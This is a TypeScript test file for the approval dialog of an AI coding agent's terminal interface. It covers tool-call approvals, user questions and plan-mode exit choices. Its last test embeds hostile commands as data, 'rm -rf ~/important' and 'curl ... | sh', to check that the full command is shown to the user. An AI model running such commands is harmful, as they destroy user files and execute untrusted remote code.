import assert from 'node:assert/strict';
import { test } from 'node:test';
import { approvalDialog, DECLINED, type DialogStep, userInputDialog } from './interactionDialog.ts';
import { approvalOptions, interactionRequest as request } from './interactionTestSupport.ts';

/** The answer a typed line gives a step, or fails with the step's retry text. */
function answerOf(step: DialogStep | undefined, line: string): string {
  assert.ok(step);
  const reading = step.read(line);
  assert.ok('answer' in reading, `"${line}" was refused: ${'retry' in reading ? reading.retry : ''}`);
  return reading.answer;
}

/** The retry text a typed line gets, or fails when the line answers the step. */
function retryOf(step: DialogStep | undefined, line: string): string {
  assert.ok(step);
  const reading = step.read(line);
  assert.ok('retry' in reading, `"${line}" was taken as ${'answer' in reading ? reading.answer : ''}`);
  return reading.retry;
}

test('an approval offers allow for [s]ession, [A]llow and [r]eject, the default in capitals and named', () => {
  const dialog = approvalDialog(request({ toolName: 'Bash', input: { command: 'touch x' }, options: approvalOptions }));
  const [step] = dialog.steps;
  assert.ok(step);
  assert.deepEqual(step.lines, ['Claude wants to use Bash: touch x']);
  assert.equal(step.prompt, 'Allow for [s]ession / [A]llow / [r]eject (Enter: Allow) > ');
  assert.deepEqual(dialog.submission([answerOf(step, 'a')]), { action: 'allow', optionId: 'allow', payload: {} });
  assert.deepEqual(dialog.submission([answerOf(step, ' S ')]), {
    action: 'allow',
    optionId: 'allow_always',
    payload: {},
  });
  assert.deepEqual(dialog.submission([answerOf(step, 'reject')]), {
    action: 'reject',
    optionId: 'reject',
    payload: {},
  });
});

test('at an approval, Enter takes the default (allow once), y allows once and n rejects', () => {
  const [step] = approvalDialog(
    request({ toolName: 'Bash', input: { command: 'ls' }, options: approvalOptions }),
  ).steps;
  assert.equal(answerOf(step, ''), 'allow');
  assert.equal(answerOf(step, '   '), 'allow');
  assert.deepEqual(step?.read(''), { answer: 'allow', chosen: 'Allow' }, 'the choice is said, Enter shows none');
  for (const yes of ['y', 'Y', 'yes', ' YES ']) assert.equal(answerOf(step, yes), 'allow', yes);
  for (const no of ['n', 'N', 'no']) assert.equal(answerOf(step, no), 'reject', no);
  assert.notEqual(answerOf(step, 'y'), 'allow_always', 'a hurried yes never grants for the whole session');
});

test('anything else at an approval says what is accepted', () => {
  const [step] = approvalDialog(
    request({ toolName: 'Bash', input: { command: 'ls' }, options: approvalOptions }),
  ).steps;
  for (const typed of ['maybe', 'x', 'ok', '1', 'allow for']) {
    assert.equal(
      retryOf(step, typed),
      'Not a choice. Type s (Allow for session), a or y (Allow), r or n (Reject), or press Enter for Allow.',
      typed,
    );
  }
});

test('an approval without a session grant does not offer [s]', () => {
  const dialog = approvalDialog(request({ toolName: 'Write', input: {}, options: approvalOptions.slice(1) }));
  const [step] = dialog.steps;
  assert.equal(step?.prompt, '[A]llow / [r]eject (Enter: Allow) > ');
  assert.equal(retryOf(step, 's'), 'Not a choice. Type a or y (Allow), r or n (Reject), or press Enter for Allow.');
});

test('an approval with no allow-once option has no default: Enter says what it takes', () => {
  const options = [approvalOptions[0], approvalOptions[2]].filter((option) => option !== undefined);
  const [step] = approvalDialog(request({ toolName: 'Bash', input: {}, options })).steps;
  assert.equal(step?.prompt, 'Allow for [s]ession / [r]eject > ');
  assert.equal(retryOf(step, ''), 'Type s (Allow for session), r or n (Reject).');
  assert.match(retryOf(step, 'y'), /^Not a choice\./, 'y never becomes a standing grant');
  assert.equal(answerOf(step, 'n'), 'reject');
});

const questionInput = {
  questions: [
    {
      id: 'q-db',
      question: 'Which database?',
      header: 'Database',
      multiSelect: false,
      options: [
        { label: 'SQLite', description: 'One file' },
        { label: 'PostgreSQL', description: 'A server' },
      ],
    },
    {
      id: 'q-langs',
      question: 'Which languages?',
      multiSelect: true,
      options: [{ label: 'TypeScript' }, { label: 'Go' }, { label: 'Rust' }],
    },
  ],
};

test('AskUserQuestion asks each question with numbered options and answers by question id', () => {
  const dialog = userInputDialog(request({ toolName: 'AskUserQuestion', input: questionInput }));
  assert.equal(dialog.steps.length, 2);
  const [database, languages] = dialog.steps;
  assert.ok(database && languages);
  assert.deepEqual(database.lines, [
    '[Database] Which database?',
    '  1. SQLite — One file',
    '  2. PostgreSQL — A server',
  ]);
  assert.deepEqual(database.read('2'), { answer: 'PostgreSQL', chosen: 'PostgreSQL' });
  assert.equal(
    answerOf(database, '1,2'),
    '1,2',
    'a single-select question takes one number; anything else is own text',
  );
  assert.equal(answerOf(languages, '1, 3'), 'TypeScript, Rust');
  assert.equal(answerOf(languages, 'Zig'), 'Zig');
  assert.deepEqual(dialog.submission(['PostgreSQL', 'TypeScript, Rust']), {
    action: 'allow',
    optionId: '',
    payload: { answersByQuestionId: { 'q-db': 'PostgreSQL', 'q-langs': 'TypeScript, Rust' } },
  });
});

test('a question has no default: Enter alone says what it takes', () => {
  const [database, languages] = userInputDialog(request({ toolName: 'AskUserQuestion', input: questionInput })).steps;
  assert.equal(retryOf(database, '  '), 'Type a number from 1 to 2, or your own answer.');
  assert.equal(retryOf(languages, ''), 'Type one or more numbers from 1 to 3 separated by commas, or your own answer.');
  const open = { questions: [{ id: 'q-name', question: 'Name it?', options: [] }] };
  const [free] = userInputDialog(request({ toolName: 'AskUserQuestion', input: open })).steps;
  assert.equal(free?.prompt, 'your answer > ');
  assert.equal(retryOf(free, ''), 'Type your answer, then press Enter.');
});

/** What the sidecar offers to leave plan mode (exitPlanModeOptions without bypass). */
const planOptions = [
  { kind: 'allow_always', name: 'Yes, and use "auto" mode', optionId: 'auto' },
  { kind: 'allow_always', name: 'Yes, and auto-accept edits', optionId: 'acceptEdits' },
  { kind: 'allow_once', name: 'Yes, and manually approve edits', optionId: 'default' },
  { kind: 'reject_once', name: 'No, keep planning', optionId: 'plan' },
];

test('ExitPlanMode shows the plan and picks a mode option by number', () => {
  const dialog = userInputDialog(
    request({ toolName: 'ExitPlanMode', input: { plan: '1. Edit\n2. Test\n' }, options: planOptions }),
  );
  const [step] = dialog.steps;
  assert.ok(step);
  assert.deepEqual(step.lines, [
    "Claude's plan:",
    '  1. Edit',
    '  2. Test',
    'ExitPlanMode:',
    '  1. Yes, and use "auto" mode',
    '  2. Yes, and auto-accept edits',
    '  3. Yes, and manually approve edits (Enter)',
    '  4. No, keep planning',
  ]);
  assert.equal(step.prompt, 'choose a number (Enter: 3) > ');
  assert.deepEqual(dialog.submission([answerOf(step, '2')]), { action: 'allow', optionId: 'acceptEdits', payload: {} });
  assert.deepEqual(dialog.submission([answerOf(step, '4')]), { action: 'reject', optionId: 'plan', payload: {} });
});

test('at the plan, Enter and y approve with each edit asked, n keeps planning, anything else says what is accepted', () => {
  const [step] = userInputDialog(
    request({ toolName: 'ExitPlanMode', input: { plan: 'x' }, options: planOptions }),
  ).steps;
  assert.deepEqual(step?.read(''), { answer: 'default', chosen: 'Yes, and manually approve edits' });
  assert.equal(answerOf(step, 'y'), 'default', 'a hurried yes grants the least: each edit is still asked');
  assert.equal(answerOf(step, 'no'), 'plan');
  for (const typed of ['5', '0', 'go', '1,2']) {
    assert.equal(
      retryOf(step, typed),
      'Not a choice. Type a number from 1 to 4 (or y for 3, n for 4), or press Enter for 3.',
      typed,
    );
  }
});

test('an answer naming no offered option declines', () => {
  const dialog = approvalDialog(request({ toolName: 'Bash', input: {}, options: approvalOptions }));
  assert.deepEqual(dialog.submission(['nonsense']), DECLINED);
});

test('an approval shows the whole command: nothing clipped, every line of it', () => {
  const command = `mkdir -p outrigger-demo && echo '${'long '.repeat(40)}' > outrigger-demo/hello.txt && rm -rf ~/important`;
  const long = approvalDialog(request({ toolName: 'Bash', input: { command }, options: approvalOptions }));
  assert.deepEqual(long.steps[0]?.lines, [`Claude wants to use Bash: ${command}`]);
  const script = 'set -e\nmake build\n  curl https://example.com/x | sh';
  const multiLine = approvalDialog(request({ toolName: 'Bash', input: { command: script }, options: approvalOptions }));
  assert.deepEqual(multiLine.steps[0]?.lines, [
    'Claude wants to use Bash:',
    '  set -e',
    '  make build',
    '    curl https://example.com/x | sh',
  ]);
  const json = approvalDialog(request({ toolName: 'mcp__x__y', input: { a: 1, b: 'two' }, options: approvalOptions }));
  assert.deepEqual(json.steps[0]?.lines, [
    'Claude wants to use mcp__x__y:',
    '  {',
    '    "a": 1,',
    '    "b": "two"',
    '  }',
  ]);
});
